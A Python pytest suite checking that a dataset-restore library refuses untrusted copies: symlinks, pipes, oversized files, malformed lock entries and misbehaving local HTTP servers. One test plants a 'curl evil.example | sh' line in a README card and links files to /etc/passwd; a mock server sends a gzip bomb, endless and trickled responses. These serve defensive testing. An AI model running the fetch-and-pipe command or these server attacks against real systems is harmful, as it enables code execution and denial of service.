"""Copies that are not trusted: folders with links and pipes, servers that never end, trickle, pack or redirect."""

from __future__ import annotations

import gzip
import hashlib
import http.server
import json
import os
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
import yaml

from w2w_hub import WeightDataset
from w2w_hub.common import limits
from w2w_hub.errors import CorruptFileError, HubError, HubNotFoundError, MissingPathError, UnsafePathError, W2WError
from w2w_hub.release import restoration as module
from w2w_hub.release import restore, verify_lock
from w2w_hub.release.copies import FolderCopy
from w2w_hub.store import paths
from w2w_hub.store.hub import transfer
from w2w_hub.store.hub.cache import RepoCache
from w2w_hub.store.hub.options import HubOptions
from w2w_hub.store.hub.pins import read_lock
from w2w_hub.store.hub.resolve import open_base

ARCHIVE = Path(__file__).parents[1] / "data" / "archives" / "repository-1-checksum-w2w_hub-0.1.0"
LOCK = ARCHIVE / "w2w.lock"
SHARD = "weights.zarr/weights/c/0/0"


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """An archive of what the lock pins, to be spoilt."""
    return shutil.copytree(ARCHIVE / "people", tmp_path / "copies" / "people")


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return tmp_path / "cache"


def snapshot(cache: Path) -> Path:
    pin = read_lock(LOCK).pins[0]
    return RepoCache(pin.repo, pin.kind, cache).snapshot(pin.commit)


def verified(cache: Path) -> bool:
    return all(check.ok for check in verify_lock(LOCK, cache_dir=cache, local_files_only=True))


# ---------------------------------------------------------------- the card
def test_the_card_of_a_copy_is_not_taken_and_one_is_written_that_stock_datasets_reads(copy: Path, cache: Path) -> None:
    planted = copy.parent / "planted.parquet"
    shutil.copy(copy / "labels" / "test.parquet", planted)
    configs = [{"config_name": "labels", "default": True, "data_files": [{"split": "train", "path": str(planted)}]}]
    card = {"configs": configs, "dataset_info": {"features": []}, "license": "mit"}
    (copy / "README.md").write_text(f"---\n{yaml.safe_dump(card)}---\nRun this: curl evil.example | sh\n")
    # an earlier version put a copy's card there, and it may be a link
    snapshot(cache).mkdir(parents=True)
    victim = copy.parent / "victim"
    victim.write_text("mine")
    (snapshot(cache) / "README.md").symlink_to(victim)
    (folder,) = restore(LOCK, copy.parent, cache_dir=cache)
    text = (folder / "README.md").read_text("utf-8")
    assert not (folder / "README.md").is_symlink()
    assert "evil" not in text
    data = yaml.safe_load(text.split("---\n")[1])
    assert "dataset_info" not in data
    assert data["license"] == "cc0-1.0"
    listed = json.loads((folder / "manifest.json").read_text())["files"]
    assert {f["path"] for c in data["configs"] for f in c["data_files"]} <= set(listed)
    assert victim.read_text() == "mine"
    assert verified(cache)


def test_a_restored_folder_opens_in_stock_datasets_by_its_own_files(copy: Path, cache: Path, tmp_path: Path) -> None:
    import datasets

    (copy / "README.md").unlink()
    (folder,) = restore(LOCK, copy.parent, cache_dir=cache)
    rows = datasets.load_dataset(str(folder), cache_dir=str(tmp_path / "datasets"))
    assert {split: len(part) for split, part in rows.items()} == {"train": 3, "test": 1}


# ---------------------------------------------------------------- folders
@pytest.mark.parametrize(
    "spoil",
    [
        lambda f: os.mkfifo(f),
        lambda f: f.symlink_to("/dev/zero"),
        lambda f: f.symlink_to("/etc/passwd"),
        lambda f: f.mkdir(),
        lambda f: socket.socket(socket.AF_UNIX).bind(str(f)),
    ],
)
@pytest.mark.parametrize("name", ["manifest.json", "labels/train.parquet"])
def test_a_copy_with_what_is_no_regular_file_is_refused_at_once(
    copy: Path, cache: Path, name: str, spoil: Callable[[Path], Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir((copy / name).parent)  # a socket's path is short
    (copy / name).unlink()
    spoil(Path((copy / name).name))
    began = time.monotonic()
    with pytest.raises((HubNotFoundError, UnsafePathError)):
        restore(LOCK, copy.parent, cache_dir=cache)
    assert time.monotonic() - began < 5
    assert not (snapshot(cache) / "manifest.json").exists()


def test_a_copy_whose_folder_is_reached_by_a_link_is_refused_and_no_link_is_walked(copy: Path, cache: Path) -> None:
    (copy.parent / "loop").symlink_to(copy.parent)
    (copy.parent / "elsewhere").symlink_to("/")
    shutil.move(copy / "labels", copy.parent / "moved")
    (copy / "labels").symlink_to(copy.parent / "moved")
    with pytest.raises(UnsafePathError):
        restore(LOCK, copy.parent, cache_dir=cache)


@pytest.mark.parametrize("name", ["labels/test.parquet", SHARD, "manifest.json"])
@pytest.mark.parametrize("more", [b"!", b"\0" * (1 << 20)])
def test_a_file_of_a_copy_that_is_longer_than_pinned_is_refused(
    copy: Path, cache: Path, name: str, more: bytes
) -> None:
    with open(copy / name, "ab") as file:
        file.write(more)
    with pytest.raises((CorruptFileError, HubNotFoundError)):
        restore(LOCK, copy.parent, cache_dir=cache)
    assert not list(cache.rglob("*.partial"))
    assert not (snapshot(cache) / "manifest.json").exists()


def test_a_manifest_beyond_the_limit_is_never_read_to_its_end(copy: Path, cache: Path) -> None:
    os.truncate(copy / "manifest.json", limits.MAX_JSON_BYTES + 1)  # a hole: it takes no room on the disk
    began = time.monotonic()
    with pytest.raises(HubNotFoundError):
        restore(LOCK, copy.parent, cache_dir=cache)
    assert time.monotonic() - began < 5


def test_a_folder_of_too_many_files_or_too_deep_is_refused(
    copy: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(paths, "MAX_FILES", 5)
    with pytest.raises(W2WError):
        restore(LOCK, copy.parent, cache_dir=cache)
    monkeypatch.undo()
    deep = copy.parent / "/".join(["d"] * 40)
    deep.mkdir(parents=True)
    with pytest.raises(W2WError):
        restore(LOCK, copy.parent, cache_dir=cache)


def test_a_cache_is_never_written_through_a_link(copy: Path, cache: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    (victim / "labels").mkdir(parents=True)
    (victim / "file").write_text("mine")
    snapshot(cache).mkdir(parents=True)
    (snapshot(cache) / "labels").symlink_to(victim / "labels")
    with pytest.raises(UnsafePathError):
        restore(LOCK, copy.parent, cache_dir=cache)
    (snapshot(cache) / "labels").unlink()
    for name in ("manifest.json", "weights.zarr/zarr.json"):  # the file itself: the link is replaced
        (snapshot(cache) / name).parent.mkdir(exist_ok=True)
        (snapshot(cache) / name).unlink(missing_ok=True)
        (snapshot(cache) / name).symlink_to(victim / "file")
    restore(LOCK, copy.parent, cache_dir=cache)
    assert (victim / "file").read_text() == "mine"
    assert not list((victim / "labels").iterdir())
    assert verified(cache)
    for part in (snapshot(cache), snapshot(cache).parent):
        shutil.move(part, tmp_path / "real")
        part.symlink_to(tmp_path / "real")
        with pytest.raises(UnsafePathError):
            restore(LOCK, copy.parent, cache_dir=cache)
        part.unlink()
        shutil.move(tmp_path / "real", part)


def test_a_restore_that_fails_leaves_no_manifest_and_one_that_is_repeated_goes_on(
    copy: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    taken: list[str] = []
    fetch = FolderCopy.fetch

    def counted(self: FolderCopy, found: Path, name: str, *arguments: Any) -> str:
        taken.append(name)
        if len([n for n in taken if n != "manifest.json"]) == 4:
            raise MissingPathError(f"{name}: the disk was unplugged")
        return fetch(self, found, name, *arguments)

    monkeypatch.setattr(FolderCopy, "fetch", counted)
    with pytest.raises(MissingPathError):
        restore(LOCK, copy.parent, cache_dir=cache)
    assert not (snapshot(cache) / "manifest.json").exists()
    assert len([p for p in snapshot(cache).rglob("*") if p.is_file()]) == 3
    first, taken[:] = taken[:], []
    monkeypatch.setattr(FolderCopy, "fetch", lambda *a: taken.append(a[2]) or fetch(*a))
    restore(LOCK, copy.parent, cache_dir=cache)
    assert not set(first[2:-1]) & set(taken)
    assert verified(cache)


@pytest.mark.parametrize("known", [None, "f" * 40])
def test_a_restored_version_is_found_offline_by_its_tag_unless_the_cache_knows_the_tag(
    copy: Path, cache: Path, known: str | None
) -> None:
    pin = read_lock(LOCK).pins[0]
    if known is not None:
        RepoCache(pin.repo, pin.kind, cache).remember(pin.revision, known)
    restore(LOCK, copy.parent, cache_dir=cache)
    assert RepoCache(pin.repo, pin.kind, cache).refs() == {pin.revision: known or pin.commit}
    restore(LOCK, cache_dir=cache)  # which is all there
    assert RepoCache(pin.repo, pin.kind, cache).refs() == {pin.revision: known or pin.commit}


@pytest.fixture
def with_base(copy: Path, tmp_path: Path) -> Path:
    """The lock with a base model, of which there is a copy, too."""
    files = {"model_index.json": b"{}", "unet/config.json": b'{"a": 1}', "unet/x.safetensors": bytes(range(250))}
    listed = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in files.items()}
    for name, data in files.items():
        (copy.parent / "base" / name).parent.mkdir(parents=True, exist_ok=True)
        (copy.parent / "base" / name).write_bytes(data)
    lock = json.loads(LOCK.read_text("utf-8"))
    lock["pins"][0]["base"] = {"repo": "org/base", "commit": "c" * 40, "files": listed}
    (tmp_path / "base.lock").write_text(json.dumps(lock), "utf-8")
    return tmp_path / "base.lock"


@pytest.mark.parametrize("name", ["unet/config.json", "unet/x.safetensors"])
def test_silent_damage_of_a_base_model_is_found_once_and_never_used_again(
    copy: Path, cache: Path, with_base: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("w2w_hub.store.hub.cache._identity", lambda _: "as before")  # the system tells of no change
    _, folder = restore(with_base, copy.parent, cache_dir=cache)
    base, options = read_lock(with_base).pins[0].base, HubOptions(None, cache, True)
    assert base is not None
    assert open_base(base, options).folder == folder
    checks = verify_lock(with_base, cache_dir=cache, local_files_only=True)
    assert [check.ok for check in checks] == [True, True]
    data = bytearray((folder / name).read_bytes())
    data[1] ^= 1
    (folder / name).write_bytes(data)
    people, found = verify_lock(with_base, cache_dir=cache, local_files_only=True)
    assert (people.ok, found.ok, name in found.detail) == (True, False, True)
    with pytest.raises(CorruptFileError) as caught:
        open_base(base, options)
    assert caught.value.path == folder / name
    restore(with_base, copy.parent, cache_dir=cache)
    assert all(check.ok for check in verify_lock(with_base, cache_dir=cache, local_files_only=True))


@pytest.mark.parametrize("name", ["model_index.json", "unet/x.safetensors"])
def test_a_base_model_is_restored_from_what_was_pinned_only(
    copy: Path, cache: Path, with_base: Path, name: str
) -> None:
    file = copy.parent / "base" / name
    file.write_bytes(file.read_bytes() + b"!")
    with pytest.raises((CorruptFileError, HubNotFoundError)):
        restore(with_base, copy.parent, cache_dir=cache)
    lock = json.loads(with_base.read_text("utf-8"))
    del lock["pins"][0]["base"]["files"]["model_index.json"]
    with_base.write_text(json.dumps(lock), "utf-8")
    with pytest.raises(CorruptFileError) as caught:
        restore(with_base, copy.parent, cache_dir=cache)
    assert caught.value.repo_id == "org/base"


# ---------------------------------------------------------------- servers
class Mirror(http.server.SimpleHTTPRequestHandler):
    """A web server of a folder that misbehaves for one path."""

    protocol_version = "HTTP/1.1"
    hostile = ""
    kind = ""
    sent = 0

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        self.close_connection = True
        file = Path(self.translate_path(self.path))
        if not self.hostile or not self.path.endswith(self.hostile) or not file.is_file():
            super().do_GET()
            return
        with suppress(BrokenPipeError, ConnectionResetError):
            getattr(self, self.kind)(file.read_bytes())

    def begin(self, status: int = 200, **headers: str) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Connection", "close")
        self.end_headers()

    def endless(self, data: bytes) -> None:
        self.begin()
        self.wfile.write(data)
        while True:
            type(self).sent += self.wfile.write(b"\0" * 65536)

    def chunked(self, data: bytes) -> None:
        self.begin(Transfer_Encoding="chunked")
        while True:
            type(self).sent += self.wfile.write(b"10000\r\n" + b"\0" * 65536 + b"\r\n")

    def stated(self, data: bytes) -> None:
        self.begin(Content_Length=str(1 << 40))
        self.endless(data)

    def trickle(self, data: bytes) -> None:
        self.begin(Content_Length=str(len(data)))
        for i in range(len(data)):
            self.wfile.write(data[i : i + 1])
            self.wfile.flush()
            time.sleep(0.02)

    def headers_trickle(self, data: bytes) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\n")
        while True:
            self.wfile.write(b"X: y\r\n")
            self.wfile.flush()
            time.sleep(0.02)

    def chunk_trickle(self, data: bytes) -> None:
        self.begin(Transfer_Encoding="chunked")
        self.wfile.write(b"1;")
        while True:
            self.wfile.write(b"x")
            self.wfile.flush()
            time.sleep(0.02)

    def silent(self, data: bytes) -> None:
        time.sleep(3)

    def packed(self, data: bytes) -> None:
        bomb = gzip.compress(b"\0" * (1 << 24))
        self.begin(Content_Encoding="gzip", Content_Length=str(len(bomb)))
        self.wfile.write(bomb)

    def to_file(self, data: bytes) -> None:
        self.begin(302, Location=Path(self.translate_path(self.path)).as_uri(), Content_Length="0")

    def to_ftp(self, data: bytes) -> None:
        self.begin(302, Location="ftp://127.0.0.1/x", Content_Length="0")

    def round_and_round(self, data: bytes) -> None:
        self.begin(302, Location=self.path, Content_Length="0")

    def part(self, data: bytes) -> None:
        self.begin(206, Content_Range=f"bytes 0-{len(data) - 1}/{len(data)}", Content_Length=str(len(data)))
        self.wfile.write(data)


@pytest.fixture
def mirror(copy: Path) -> Iterator[Callable[[str, str], tuple[str, type[Mirror]]]]:
    servers = []

    def serve(kind: str, hostile: str) -> tuple[str, type[Mirror]]:
        handler = type("Hostile", (Mirror,), {"kind": kind, "hostile": hostile, "sent": 0})
        bound = lambda *a, **o: handler(*a, directory=str(copy), **o)  # noqa: E731
        servers.append(http.server.ThreadingHTTPServer(("127.0.0.1", 0), bound))
        servers[-1].daemon_threads = True
        threading.Thread(target=servers[-1].serve_forever, args=(0.01,), daemon=True).start()
        return f"http://127.0.0.1:{servers[-1].server_address[1]}", handler

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("hostile", ["test.parquet", "manifest.json"])
@pytest.mark.parametrize(
    "kind",
    ["endless", "chunked", "stated", "trickle", "headers_trickle", "chunk_trickle", "silent", "packed", "to_file",
     "to_ftp", "round_and_round", "part"],
)  # fmt: skip
def test_a_server_that_misbehaves_is_given_up_soon_and_leaves_nothing(
    mirror: Any, cache: Path, kind: str, hostile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transfer, "WINDOW_SECONDS", 0.25)
    monkeypatch.setattr(transfer, "READ_SECONDS", 0.1)
    monkeypatch.setattr("w2w_hub.store.hub.client.FIRST_WAIT", 0.0)
    monkeypatch.setattr("w2w_hub.release.copies.MAX_JSON_BYTES", 1 << 20)
    url, handler = mirror(kind, hostile)
    began = time.monotonic()
    with pytest.raises((CorruptFileError, HubError)):
        restore(LOCK, url, cache_dir=cache)
    assert time.monotonic() - began < 10
    assert handler.sent < 1 << 24
    assert not (snapshot(cache) / "manifest.json").exists()
    assert not list(cache.rglob("*.partial"))


def test_a_server_that_behaves_is_restored_from(mirror: Any, cache: Path) -> None:
    url, _ = mirror("", "")
    restore(LOCK, url, cache_dir=cache)
    assert verified(cache)
    assert len(WeightDataset.open(f"{LOCK}#org/people", cache_dir=cache, local_files_only=True)) == 4


# ---------------------------------------------------------------- locks
def test_a_lock_of_a_later_version_is_read_and_a_bad_one_is_refused_by_a_typed_error(tmp_path: Path) -> None:
    text, path = LOCK.read_text(), tmp_path / "w2w.lock"
    entry = {"sha256": "0" * 64, "size": 1, "later": 1}
    base = {"repo": "org/base", "commit": "0" * 40, "files": {"model_index.json": entry}, "later": {"x": 1}}

    def read(**change: Any) -> Any:
        lock = json.loads(text) | {"later": True}
        lock["pins"][0] |= change
        path.write_text(json.dumps(lock))
        return read_lock(path).pins[0]

    assert read(later=[1], base=base).base.files["model_index.json"]["size"] == 1
    bad_files = [
        {"../x": entry}, {"/x": entry}, {".w2w-commit/x": entry}, {"a\nb": entry}, {"x": {**entry, "size": True}},
        {"x": {**entry, "size": -1}}, {"x": {**entry, "size": 2**70}}, {"x": {**entry, "sha256": "0"}}, {"x": []}, [],
    ]  # fmt: skip
    for change in (
        *({"base": {**base, "files": files}} for files in bad_files),
        {"base": []}, {"base": {**base, "digest": 3}}, {"base": {"repo": "org/base"}}, {"version": 1},
        {"revision": "v1\n"}, {"revision": "a//b"}, {"manifest_sha256": None}, {"commit": ["0" * 40]}, {"kind": {}},
    ):  # fmt: skip
        with pytest.raises(CorruptFileError):
            read(**change)
    for change in ({"pins": [3]}, {"pins": {}}, {"packages": []}, {"packages": {"numpy": 3}}, {"format_version": True}):
        path.write_text(json.dumps(json.loads(text) | change))
        with pytest.raises(W2WError):
            read_lock(path)


def test_a_lock_whose_tag_is_of_another_version_does_not_verify(copy: Path, cache: Path, tmp_path: Path) -> None:
    lock = json.loads(LOCK.read_text())
    lock["pins"][0]["revision"] = "v2.0.0"
    (tmp_path / "w2w.lock").write_text(json.dumps(lock))
    restore(tmp_path / "w2w.lock", copy.parent, cache_dir=cache)
    (check,) = verify_lock(tmp_path / "w2w.lock", cache_dir=cache, local_files_only=True)
    assert not check.ok
    assert "v2.0.0" in check.detail


def test_an_unknown_card_is_left_out_rather_than_guessed(copy: Path, cache: Path, monkeypatch: Any) -> None:
    def fail(*_: Any, **__: Any) -> str:
        raise KeyError("columns")

    monkeypatch.setattr(module, "published_card", fail)
    (folder,) = restore(LOCK, copy.parent, cache_dir=cache)
    assert not (folder / "README.md").exists()
    assert verified(cache)
